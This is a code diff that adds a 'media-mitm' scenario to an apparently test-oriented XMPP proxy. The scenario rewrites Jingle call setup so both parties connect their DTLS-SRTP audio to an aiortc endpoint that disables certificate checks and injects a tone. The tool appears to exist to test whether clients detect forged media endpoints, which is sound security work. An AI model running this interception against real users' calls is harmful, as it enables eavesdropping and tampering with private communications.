@@ -49,6 +49,14 @@ carbon <sent/>/<received/>):
                        the original, which is delivered (--original deliver) or dropped (drop); the
                        victim's IQ answers to the forged sender are swallowed
   replace-candidates   every ICE candidate's ip/port set to --attacker-addr (also in transport-info)
+  media-mitm           (both sides; needs aiortc) the attacker's own DTLS-SRTP endpoint: per session
+                       one aiortc peer answers the caller's offer and one offers to the callee; the
+                       session-initiate to the callee and the session-accept to the caller get the
+                       attacker's description and transport (ufrag/pwd/candidates, its certificate's
+                       plain fingerprint; an encrypted fingerprint is relayed unchanged with `setup`
+                       adjusted, as the attacker can neither read nor forge it); transport-info is
+                       dropped. Both peers send --tone (Hz) and report on stdout
+                       {"media": STATE|"audio"|"summary", "side": "caller"|"callee", "sid", ...}.
 
 Importable: the pure rewrite functions (one per scenario, over a parsed stanza `El`) and
 StreamRewriter (the byte-exact stream splitter) are unit-tested by test_xmpp_mitm.py.
@@ -93,6 +101,7 @@ SCENARIOS = (
     "forge-from-resource",
     "forge-from-jid",
     "replace-candidates",
+    "media-mitm",
 )
 
 # A made-up attacker certificate digest (SHA-256 of a fixed string), in the uppercase
@@ -519,6 +528,7 @@ class Options:
     forge_from: Optional[str] = None
     original: str = "deliver"
     ack_dropped: bool = False
+    tone: float = 660.0
 
 
 @dataclass
@@ -541,7 +551,7 @@ class Scenario:
         """The rewrite for a stanza delivered to the victim, or None to forward it unchanged."""
         o, name = self.o, self.o.scenario
         one = lambda new, detail: None if new is None else Outcome([new], detail)  # noqa: E731
-        if name == "passthrough":
+        if name in ("passthrough", "media-mitm"):  # media-mitm: see Proxy.on_element
             return None
         if name == "strip-device":
             return one(strip_device(st), "removed <device/> from <proceed/>")
@@ -584,7 +594,326 @@ class Scenario:
 
 
 # ---------------------------------------------------------------------------------------------
+# media-mitm: an aiortc endpoint terminating DTLS towards both clients (imported only for this
+# scenario; aiortc comes from the venv scripts/test builds).
+
+NS_RTP = "urn:xmpp:jingle:apps:rtp:1"
+NS_SSMA = "urn:xmpp:jingle:apps:rtp:ssma:0"
+NS_HDREXT = "urn:xmpp:jingle:apps:rtp:rtp-hdrext:0"
+# SDP needs some fingerprint; the attacker cannot read an encrypted one and skips the check.
+DUMMY_FINGERPRINT = ":".join(["00"] * 32)
+
+
+def content_to_sdp(content: El, sdp_type: str, mid: str) -> str:
+    """One Jingle RTP content (description + ICE-UDP transport) as an SDP for aiortc."""
+    d = content.find("description", NS_RTP)
+    t = content.find("transport", NS_ICE)
+    if d is None or t is None:
+        raise ValueError("content without RTP description or ICE-UDP transport")
+    pts = d.findall("payload-type")
+    lines = [
+        "v=0",
+        "o=- 1 1 IN IP4 127.0.0.1",
+        "s=-",
+        "t=0 0",
+        f"a=group:BUNDLE {mid}",
+        "a=msid-semantic:WMS *",
+        "m=audio 9 UDP/TLS/RTP/SAVPF " + " ".join(pt.get("id", "") for pt in pts),
+        "c=IN IP4 0.0.0.0",
+        "a=rtcp:9 IN IP4 0.0.0.0",
+        f"a=mid:{mid}",
+        "a=sendrecv",
+    ]
+    for h in d.findall("rtp-hdrext", NS_HDREXT):
+        lines.append(f"a=extmap:{h.get('id')} {h.get('uri')}")
+    if d.find("rtcp-mux") is not None:
+        lines.append("a=rtcp-mux")
+    for pt in pts:
+        enc = f"{pt.get('name')}/{pt.get('clockrate')}"
+        if int(pt.get("channels", "1")) > 1:
+            enc += f"/{pt.get('channels')}"
+        lines.append(f"a=rtpmap:{pt.get('id')} {enc}")
+        params = [(q.get("name"), q.get("value")) for q in pt.findall("parameter")]
+        if params:
+            lines.append(f"a=fmtp:{pt.get('id')} " + ";".join(f"{k}={v}" for k, v in params))
+    for src in d.findall("source", NS_SSMA):
+        for q in src.findall("parameter"):
+            if q.get("name") == "cname":
+                lines.append(f"a=ssrc:{src.get('ssrc')} cname:{q.get('value')}")
+    lines.append(f"a=ice-ufrag:{t.get('ufrag')}")
+    lines.append(f"a=ice-pwd:{t.get('pwd')}")
+    for c in t.findall("candidate"):
+        lines.append(
+            f"a=candidate:{c.get('foundation')} {c.get('component')} {c.get('protocol')} {c.get('priority')} "
+            f"{c.get('ip')} {c.get('port')} typ {c.get('type')}"
+        )
+    lines.append("a=end-of-candidates")
+    fp = t.find("fingerprint", NS_DTLS)
+    anyfp = fp if fp is not None else t.find("fingerprint", NS_DRAFT)
+    value = fp.text.strip() if fp is not None else DUMMY_FINGERPRINT
+    lines.append(f"a=fingerprint:sha-256 {value}")
+    lines.append(f"a=setup:{anyfp.get('setup') if anyfp is not None else 'actpass'}")
+    return "\r\n".join(lines) + "\r\n"
+
+
+def sdp_to_content(sdp: str, parent: El) -> Tuple[El, El]:
+    """aiortc's local SDP as a Jingle RTP description and ICE-UDP transport (with a plain
+    fingerprint), children of a content element `parent`."""
+    desc = make("description", NS_RTP, parent.ns, {"media": "audio"})
+    trans = make("transport", NS_ICE, parent.ns)
+    fmtp: Dict[str, List[Tuple[str, str]]] = {}
+    rtpmap: List[Tuple[str, str]] = []
+    ssrcs: List[Tuple[str, str]] = []
+    exts: List[Tuple[str, str]] = []
+    mux = False
+    fingerprint = setup = None
+    cands: List[List[str]] = []
+    for line in sdp.splitlines():
+        if not line.startswith("a="):
+            continue
+        key, _, val = line[2:].partition(":")
+        if key == "rtpmap":
+            pt, enc = val.split(" ", 1)
+            rtpmap.append((pt, enc))
+        elif key == "fmtp":
+            pt, params = val.split(" ", 1)
+            fmtp[pt] = [tuple(kv.split("=", 1)) for kv in params.split(";") if "=" in kv]  # type: ignore[misc]
+        elif key == "ssrc" and " cname:" in val:
+            ssrc, cname = val.split(" cname:", 1)
+            ssrcs.append((ssrc, cname))
+        elif key == "extmap":
+            i, uri = val.split(" ", 1)
+            exts.append((i.split("/")[0], uri))
+        elif key == "rtcp-mux":
+            mux = True
+        elif key == "ice-ufrag":
+            trans.attrs["ufrag"] = val
+        elif key == "ice-pwd":
+            trans.attrs["pwd"] = val
+        elif key == "fingerprint" and val.startswith("sha-256 "):
+            fingerprint = val.split(" ", 1)[1]
+        elif key == "setup":
+            setup = val
+        elif key == "candidate":
+            cands.append(val.split())
+    for pt, enc in rtpmap:
+        parts = enc.split("/")
+        attrs = {"id": pt, "name": parts[0], "clockrate": parts[1]}
+        if len(parts) > 2:
+            attrs["channels"] = parts[2]
+        e = make("payload-type", NS_RTP, NS_RTP, attrs)
+        for k, v in fmtp.get(pt, []):
+            e.children.append(make("parameter", NS_RTP, NS_RTP, {"name": k, "value": v}))
+        desc.children.append(e)
+    if mux:
+        desc.children.append(make("rtcp-mux", NS_RTP, NS_RTP))
+    for ssrc, cname in ssrcs:
+        src = make("source", NS_SSMA, NS_RTP, {"ssrc": ssrc})
+        src.children.append(make("parameter", NS_SSMA, NS_SSMA, {"name": "cname", "value": cname}))
+        desc.children.append(src)
+    for i, uri in exts:
+        desc.children.append(make("rtp-hdrext", NS_HDREXT, NS_RTP, {"id": i, "uri": uri}))
+    for n, f in enumerate(cands):
+        trans.children.append(
+            make(
+                "candidate",
+                NS_ICE,
+                NS_ICE,
+                {
+                    "component": f[1],
+                    "foundation": f[0],
+                    "generation": "0",
+                    "id": f"mitm{n}",
+                    "ip": f[4],
+                    "network": "0",
+                    "port": f[5],
+                    "priority": f[3],
+                    "protocol": f[2].lower(),
+                    "type": f[7],
+                },
+            )
+        )
+    trans.children.append(plain_fingerprint(NS_ICE, setup, fingerprint or DUMMY_FINGERPRINT))
+    return desc, trans
+
+
+def replace_media(st: El, sdp: str, relay_encrypted: bool) -> El:
+    """A copy of a session-initiate/accept whose (first) content describes the attacker's
+    endpoint (aiortc SDP `sdp`). With relay_encrypted, the original encrypted fingerprint
+    (the peer's, which the attacker cannot read or forge) is kept, with `setup` set to the
+    attacker's: the client then meets a certificate that does not match it."""
+    out = st.copy()
+    j = jingle(out)
+    content = j.find("content") if j is not None else None
+    if content is None:
+        raise ValueError("no content")
+    old_t = content.find("transport", NS_ICE)
+    enc = old_t.find("fingerprint", NS_DRAFT) if old_t is not None else None
+    desc, trans = sdp_to_content(sdp, content)
+    if relay_encrypted and enc is not None:
+        plain = trans.find("fingerprint", NS_DTLS)
+        kept = enc.copy()
+        if plain is not None and plain.get("setup"):
+            kept.attrs["setup"] = plain.attrs["setup"]
+        trans.children = [c for c in trans.children if c is not plain] + [kept]
+    content.children = [
+        desc if c.tag == "description" and c.ns == NS_RTP else trans if c.tag == "transport" and c.ns == NS_ICE else c
+        for c in content.children
+    ]
+    return out
+
+
+class MediaMitm:
+    """The attacker's media endpoint: per session one aiortc peer answering the caller (side
+    "caller") and one offering to the callee (side "callee"); both send the attacker's tone and
+    count what they receive. The clients' own certificates are not checked (the attacker cannot
+    know them when they travel encrypted)."""
+
+    def __init__(self, tone: float) -> None:
+        import aioice.ice
+        from aiortc import RTCConfiguration, RTCPeerConnection, RTCSessionDescription  # noqa: F401
+        from aiortc.rtcdtlstransport import RTCDtlsTransport
+
+        aioice.ice.get_host_addresses = lambda use_ipv4, use_ipv6: ["127.0.0.1"]
+        RTCDtlsTransport._validate_peer_identity = lambda self, params: None  # type: ignore[assignment]
+        self.tone = tone
+        self.sessions: Dict[str, Dict[str, object]] = {}
+
+    def _pc(self, sid: str, side: str):
+        from aiortc import RTCConfiguration, RTCPeerConnection
+
+        pc = RTCPeerConnection(RTCConfiguration(iceServers=[]))
+        stats = {"frames": 0}
+
+        @pc.on("connectionstatechange")
+        def _state() -> None:
+            emit({"media": pc.connectionState, "side": side, "sid": sid})
+
+        @pc.on("track")
+        def _track(track) -> None:
+            async def count() -> None:
+                while True:
+                    try:
+                        await track.recv()
+                    except Exception:
+                        return
+                    stats["frames"] += 1
+                    if stats["frames"] == 1:
+                        emit({"media": "audio", "side": side, "sid": sid})
+
+            asyncio.ensure_future(count())
+
+        self.sessions.setdefault(sid, {})[side] = (pc, stats)
+        return pc
+
+    async def on_initiate(self, st: El) -> El:
+        """session-initiate delivered to the callee: answer the caller's offer ourselves, offer
+        our own endpoint to the callee."""
+        from aiortc import RTCSessionDescription
+
+        j = jingle(st)
+        sid = j.get("sid") or ""
+        content = j.find("content")
+        pc_a = self._pc(sid, "caller")
+        await pc_a.setRemoteDescription(RTCSessionDescription(content_to_sdp(content, "offer", "0"), "offer"))
+        pc_a.addTrack(_tone_track(self.tone))
+        await pc_a.setLocalDescription(await pc_a.createAnswer())
+        pc_b = self._pc(sid, "callee")
+        pc_b.addTransceiver(_tone_track(self.tone), direction="sendrecv")
+        await pc_b.setLocalDescription(await pc_b.createOffer())
+        return replace_media(st, pc_b.localDescription.sdp, relay_encrypted=True)
+
+    async def on_accept(self, st: El) -> El:
+        """session-accept delivered to the caller: complete the callee side, answer the caller
+        with our own endpoint."""
+        from aiortc import RTCSessionDescription
+
+        j = jingle(st)
+        sid = j.get("sid") or ""
+        sess = self.sessions.get(sid)
+        if not sess:
+            raise ValueError(f"session-accept for unknown session {sid}")
+        pc_a = sess["caller"][0]  # type: ignore[index]
+        pc_b = sess["callee"][0]  # type: ignore[index]
+        await pc_b.setRemoteDescription(RTCSessionDescription(content_to_sdp(j.find("content"), "answer", "0"), "answer"))
+        return replace_media(st, pc_a.localDescription.sdp, relay_encrypted=True)
+
+    async def close(self, sid: str) -> None:
+        for side, (pc, stats) in self.sessions.pop(sid, {}).items():  # type: ignore[misc]
+            emit({"media": "summary", "side": side, "sid": sid, "frames_received": stats["frames"]})
+            await pc.close()
+
+    async def close_all(self) -> None:
+        for sid in list(self.sessions):
+            await self.close(sid)
+
+
+def _tone_track(freq: float):
+    import fractions
+    import math
+    import struct
+
+    from aiortc import MediaStreamTrack
+    from av import AudioFrame
+
+    rate, frame_len = 48000, 960
+
+    class Tone(MediaStreamTrack):
+        kind = "audio"
+
+        def __init__(self) -> None:
+            super().__init__()
+            self.n = 0
+            self.start: Optional[float] = None
+
+        async def recv(self):
+            if self.start is None:
+                self.start = time.monotonic()
+            delay = self.start + self.n * frame_len / rate - time.monotonic()
+            if delay > 0:
+                await asyncio.sleep(delay)
+            base = self.n * frame_len
+            pcm = struct.pack(
+                "<%dh" % frame_len,
+                *(int(12000 * math.sin(2 * math.pi * freq * (base + i) / rate)) for i in range(frame_len)),
+            )
+            frame = AudioFrame(format="s16", layout="mono", samples=frame_len)
+            frame.planes[0].update(pcm)
+            frame.sample_rate = rate
+            frame.pts = base
+            frame.time_base = fractions.Fraction(1, rate)
+            self.n += 1
+            return frame
+
+    return Tone()
+
+
+# ---------------------------------------------------------------------------------------------
 # The byte-exact stream splitter.
+
+
+class Parts:
+    """Output of one feed: byte strings and (for scenarios that must wait, e.g. for a media
+    endpoint) awaitables resolving to bytes, in order."""
+
+    def __init__(self) -> None:
+        self.items: List[object] = []
+
+    def __iadd__(self, part: object) -> "Parts":
+        if isinstance(part, (bytes, bytearray, memoryview)):
+            if part:
+                if self.items and isinstance(self.items[-1], bytearray):
+                    self.items[-1] += part
+                else:
+                    self.items.append(bytearray(part))
+        else:
+            self.items.append(part)
+        return self
+
+    def __bytes__(self) -> bytes:
+        if not all(isinstance(i, bytearray) for i in self.items):
+            raise TypeError("a handler deferred its answer: use feed_parts()")
+        return b"".join(self.items)  # type: ignore[arg-type]
 
 
 class _Restart(Exception):
@@ -694,9 +1023,15 @@ class StreamRewriter:
 
     def feed(self, data: bytes) -> bytes:
         """Consumes bytes from one side; returns the bytes to send to the other."""
+        return bytes(self.feed_parts(data))
+
+    def feed_parts(self, data: bytes) -> "Parts":
+        """Like feed(), but a handler may have returned an awaitable (resolving to bytes): the
+        result is the sequence of byte strings and awaitables to send in this order."""
+        out = Parts()
         if self.blind:
-            return data
-        out = bytearray()
+            out += data
+            return out
         if self._pending_restart:
             self._pending_restart = False
             rest = bytes(self.buf[self.fwd - self.base :])
@@ -716,14 +1051,14 @@ class StreamRewriter:
                 self._process(out)
                 out += self.buf[self.fwd - self.base :]
                 self._go_blind(f"parse error: {err}")
-                return bytes(out)
+                return out
             self._process(out)
             if stop is not None:
                 rest = bytes(self.buf[abs(stop) - self.base :])
                 if stop < 0:  # STARTTLS: what follows is TLS
                     out += rest
                     self._go_blind("STARTTLS")
-                    return bytes(out)
+                    return out
                 self._new_parser()
                 self.restarts += 1
                 if self.on_restart:
@@ -731,7 +1066,7 @@ class StreamRewriter:
                 pending = rest
         del self.buf[: self.fwd - self.base]
         self.base = self.fwd
-        return bytes(out)
+        return out
 
     def _go_blind(self, why: str) -> None:
         self.blind = True
@@ -739,7 +1074,7 @@ class StreamRewriter:
         if self.on_blind:
             self.on_blind(why)
 
-    def _process(self, out: bytearray) -> None:
+    def _process(self, out: "Parts") -> None:
         b = self.base
         for ev in self.events:
             kind = ev[0]
@@ -823,6 +1158,7 @@ class Proxy:
         self.log = open(log_path, "a", encoding="utf-8") if log_path else None
         self.next_id = 0
         self.tasks: set = set()
+        self.media: Optional[MediaMitm] = MediaMitm(opts.tone) if opts.scenario == "media-mitm" else None
 
     def log_event(self, conn: Connection, direction: str, action: str, xml: str) -> None:
         if self.log:
@@ -893,6 +1229,8 @@ class Proxy:
             self._log_raw(conn, direction, "forwarded", raw, name)
             return None
 
+        if self.media is not None:
+            return self._media_element(conn, direction, st, raw, name)
         out = None
         if self.opts.scenario != "passthrough" and self.role_of(conn, st) == self.opts.victim:
             out = self.scenario.apply(st)
@@ -913,6 +1251,41 @@ class Proxy:
             self._log_raw(conn, direction, "rewritten" if el is not st else "forwarded", b, name)
             data += raw if el is st else b
         return data
+
+    def _media_element(self, conn: Connection, direction: str, st: El, raw: bytes, name: str):
+        """media-mitm: session-initiate to the callee and session-accept to the caller are
+        answered by the attacker's endpoint (deferred until aiortc has its description);
+        transport-info to either side is dropped; session-terminate closes the endpoint."""
+        assert self.media is not None
+        kind, role = kind_of(st), self.role_of(conn, st)
+        if kind == "session-terminate" and st.get("type") == "set":
+            asyncio.ensure_future(self.media.close(sid_of(st) or ""))
+        step = None
+        if kind == "session-initiate" and role == "callee":
+            step = self.media.on_initiate
+        elif kind == "session-accept" and role == "caller":
+            step = self.media.on_accept
+        elif kind == "transport-info":
+            self._emit_rewrite(conn, direction, st, "transport-info dropped (the attacker's transport is complete)")
+            self._log_raw(conn, direction, "dropped", raw, name)
+            return b""
+        if step is None:
+            self._log_raw(conn, direction, "forwarded", raw, name)
+            return None
+
+        async def deferred() -> bytes:
+            try:
+                new = await step(st)
+            except Exception as e:  # the attack failed: deliver the original, say so
+                emit({"error": f"media-mitm: {type(e).__name__}: {e}", "stanza": kind, "sid": sid_of(st)})
+                self._log_raw(conn, direction, "forwarded", raw, name)
+                return raw
+            out = new.serialize()
+            self._emit_rewrite(conn, direction, st, "transport and description point at the attacker's endpoint")
+            self._log_raw(conn, direction, "rewritten", out, name)
+            return out
+
+        return deferred()
 
     def _emit_rewrite(self, conn: Connection, direction: str, st: El, detail: str) -> None:
         emit(
@@ -976,10 +1349,12 @@ class Proxy:
                 data = await reader.read(65536)
                 if not data:
                     break
-                out = rw.feed(data)
-                if out:
-                    writer.write(out)
-                    await writer.drain()
+                for part in rw.feed_parts(data).items:
+                    if not isinstance(part, bytearray):
+                        part = await part  # type: ignore[misc]
+                    if part:
+                        writer.write(part)
+                await writer.drain()
         except (ConnectionError, OSError):
             pass
         finally:
@@ -1007,6 +1382,8 @@ async def serve(args: argparse.Namespace, opts: Options) -> None:
         for t in list(proxy.tasks):
             t.cancel()
         await asyncio.gather(*proxy.tasks, return_exceptions=True)
+        if proxy.media is not None:
+            await proxy.media.close_all()
     if proxy.log:
         proxy.log.close()
 
@@ -1023,6 +1400,7 @@ def parse_args(argv: Optional[Sequence[str]] = None) -> Tuple[argparse.Namespace
     ap.add_argument("--stanza", choices=("session-accept", "proceed"), default="session-accept", help="what the forge-* scenarios copy")
     ap.add_argument("--forge-from", help="forge-*: the forged sender (default: BARE/mitm-forged or mallory@DOMAIN/mitm)")
     ap.add_argument("--original", choices=("deliver", "drop"), default="deliver", help="forge-*: also deliver the genuine stanza (after the forged one) or drop it")
+    ap.add_argument("--tone", type=float, default=660.0, help="media-mitm: the attacker's tone to both sides (Hz)")
     ap.add_argument("--ack-dropped", action="store_true", help="drop-session-accept: answer the sender with an IQ result in the victim's name")
     a = ap.parse_args(argv)
     ip, _, port = a.attacker_addr.rpartition(":")
@@ -1037,6 +1415,7 @@ def parse_args(argv: Optional[Sequence[str]] = None) -> Tuple[argparse.Namespace
         forge_from=a.forge_from,
         original=a.original,
         ack_dropped=a.ack_dropped,
+        tone=a.tone,
     )
     return a, opts
 
